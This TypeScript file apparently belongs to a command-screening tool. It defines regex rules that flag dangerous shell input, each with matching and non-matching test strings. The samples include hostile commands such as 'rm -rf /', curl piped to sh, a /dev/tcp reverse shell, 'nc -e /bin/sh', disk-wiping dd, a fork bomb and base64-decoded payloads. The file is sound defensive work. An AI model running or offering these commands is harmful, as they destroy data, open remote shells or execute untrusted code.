/** Commands, and ways to bring more than one into one. */
import { type RuleSet, rule } from './rule.js';

/** As a shell reads it: without the quotes and backslashes that stand inside of words, and with spaces for `$IFS`. */
function read(text: string): string | undefined {
  if (!/['"\\$^`{]/.test(text)) return undefined;
  const unfolded = text.replace(/\{([^{}\s]{1,200},[^{}\s]{0,200})\}/g, (_, list: string) =>
    list.replaceAll(',', ' '),
  );
  return unfolded.replace(/\$\{?IFS\}?(?:\$\d)?/g, ' ').replace(/['"\\^]|\$@|``/g, '');
}

export const shell: RuleSet = {
  name: 'shell',
  read,
  rules: [
    rule(
      'shell-remove',
      'a command that removes files recursively or by force',
      /\brm\s{1,8}(?:-{1,2}[a-z-]{1,20}\s{1,8}){0,4}-{1,2}(?:[a-z]{0,8}[rf]|recursive|force|no-preserve-root)|\bfind\s[^\n]{0,200}-delete\b|\b(?:rmdir|rd|del)\s{1,8}\/[sqf]\b|\bRemove-Item\b[^\n]{0,200}-(?:Recurse|Force)|\bshred\s/i,
      [
        'rm -rf /',
        'rm -r -f x',
        "r''m -rf x",
        '{rm,-rf,/}',
        'rm${IFS}-rf x',
        'del /s x',
        'find . -name x -delete',
        'Remove-Item x -Recurse',
      ],
      ['rm file.txt', 'the farm -raf', 'inform -r'],
    ),
    rule(
      'shell-download',
      'a command that runs what it has fetched',
      /\b(?:curl|wget|fetch|iwr|Invoke-WebRequest|DownloadString)\b[^\n]{0,400}(?:\|\s{0,8}(?:sudo\s{1,8})?(?:ba|z|da|k)?sh\b|\|\s{0,8}(?:python3?|perl|node|ruby)\b|\|\s{0,8}iex\b|>\s{0,8}\S{1,200}\s{0,8}(?:;|&&)\s{0,8}(?:ba)?sh\b)|\biex\b[^\n]{0,200}DownloadString/i,
      [
        'curl https://x.example/a | sh',
        'wget -qO- x | sudo bash',
        'curl x|python3',
        "iex (New-Object Net.WebClient).DownloadString('x')",
      ],
      ['curl https://x.example/a', 'wget x > file'],
    ),
    rule(
      'shell-connection',
      'a shell that listens or calls back',
      /\/dev\/(?:tcp|udp)\/|\b(?:nc|ncat|netcat)\b[^\n]{0,100}\s-[a-z]{0,8}[ecl][a-z]{0,4}\b|\b(?:ba|z)?sh\s{1,8}-i\b|\bsocat\b[^\n]{0,200}\bexec:|\bmkfifo\b[^\n]{0,200}\|\s{0,8}(?:nc|sh)/i,
      ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'nc -e /bin/sh 192.0.2.1 4444', 'socat tcp:x exec:sh'],
      ['nc -z host 80', 'bash script.sh'],
    ),
    rule(
      'shell-interpreter',
      'a program that is started through another',
      /\b(?:python[23]?|perl|ruby|node|php|lua|deno|bun)\s{1,8}(?:-[a-z]{0,8}[ecpr]\b|--eval\b|--print\b|eval\b)|\b(?:ba|z|da|k|c|fi)?sh\s{1,8}-[a-z]{0,6}c\b|\bcmd(?:\.exe)?\s{1,8}\/c\b|\bfind\s[^\n]{0,200}\s-(?:exec|ok)(?:dir)?\s|\bxargs\s{1,8}\S|--(?:checkpoint-action|upload-pack|receive-pack|to-command|use-compress-program|rsh)=|\bawk\b[^\n]{0,200}\bsystem\s{0,4}\(|\bGIT_SSH_COMMAND=|\bLD_PRELOAD=/i,
      [
        ...[
          'python -c "import os"',
          'node -e x',
          'bash -c "id"',
          'cmd /c dir',
          'find / -exec rm {} ;',
          'ls | xargs rm',
        ],
        ...['tar --checkpoint-action=exec=sh', 'awk \'BEGIN{system("id")}\'', 'LD_PRELOAD=/tmp/x.so id'],
      ],
      ['python script.py', 'node server.js', 'a shell -c', 'find the exec'],
    ),
    rule(
      'shell-substitution',
      'a command inside of an argument',
      /\$\([^)\n]{1,400}\)?|`[^`\n]{1,400}`|<\([^)\n]{1,200}\)|\$\{[A-Za-z_]{1,64}(?:@|:-\$)/,
      ['$(id)', '`id`', 'x <(cat y)'],
      ['$HOME', '5 (five)', '$5'],
    ),
    rule(
      'shell-chain',
      'a second command behind the first',
      /(?:;|&&|\|\||\||&|\n)\s{0,8}(?:sudo\s{1,8})?(?:rm|cat|ls|id|whoami|uname|curl|wget|nc|ncat|bash|sh|zsh|python3?|perl|node|ruby|php|env|printenv|chmod|chown|kill|dd|mkfs|touch|echo|ping|nslookup|powershell|cmd|net|type|reg|tee|xargs|base64|ssh|scp|git|npm|pip)(?:\s|$|[;&|])/i,
      ['x; rm y', 'x && curl y', 'x | nc a 1', 'a.txt\nid', 'x & whoami'],
      ['salt & pepper', 'a || b', 'x; y', 'one\ntwo'],
    ),
    rule(
      'shell-disk',
      'a command that writes over disks',
      /\bdd\s[^\n]{0,200}\bof=|\bmkfs(?:\.[a-z0-9]{1,10})?\s|\b(?:fdisk|parted|wipefs)\s|\bformat\s{1,8}[a-z]:|>\s{0,8}\/dev\/(?:sd|nvme|disk)/i,
      ['dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/sda1', 'format c:'],
      ['dd if=a', 'format the text'],
    ),
    rule(
      'shell-privilege',
      'a command that takes more rights',
      /(?:^|[\s;&|])(?:sudo|doas|pkexec|runas)\s|\bsu\s{1,8}-|\bchmod\s{1,8}(?:-R\s{1,8})?(?:[0-7]?777|[ugoa]{0,4}\+[rwx]{0,3}s)|\bsetcap\s|\bsetuid\b|\bvisudo\b|\busermod\b[^\n]{0,100}-a?G/i,
      ['sudo x', 'chmod 777 x', 'chmod u+s x', 'su - root', 'setcap cap_net_raw+ep x'],
      ['pseudo code', 'chmod 644 x', 'issue - root'],
    ),
    rule(
      'shell-encoded',
      'a command that is hidden from readers',
      /\bbase64\s{1,8}(?:-{1,2}d(?:ecode)?|-D)\b[^\n]{0,200}\||\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,200}\s-e(?:nc|ncodedcommand|c)?\s|\bxxd\s{1,8}-r\b[^\n]{0,100}\||\beval\s{1,8}["'$`]|\bprintf\s{1,8}["']?\\x/i,
      ['echo aWQ= | base64 -d | sh', 'powershell -enc aQBkAA==', 'eval "$x"', "printf '\\x69\\x64'"],
      ['base64 file', 'evaluate "x"'],
    ),
    rule(
      'shell-exhaustion',
      'a command that takes all of the machine, or ends it',
      /:\s{0,4}\(\s{0,4}\)\s{0,4}\{\s{0,4}:\s{0,4}\|\s{0,4}:|(?:^|[\s;&|])(?:shutdown|reboot|halt|poweroff|init\s{1,8}[06])(?:\s{1,8}(?:-|now|\/)|$)|\bkill(?:all)?\s{1,8}-(?:9|KILL)\s{1,8}(?:-?1\b|-1)|\bwhile\s{1,8}(?:true|:|1)\s{0,8};/i,
      [':(){ :|:& };:', 'shutdown -h now', 'kill -9 -1', 'while true; do x; done'],
      ['the reboot of the series', 'kill 1234'],
    ),
  ],
};
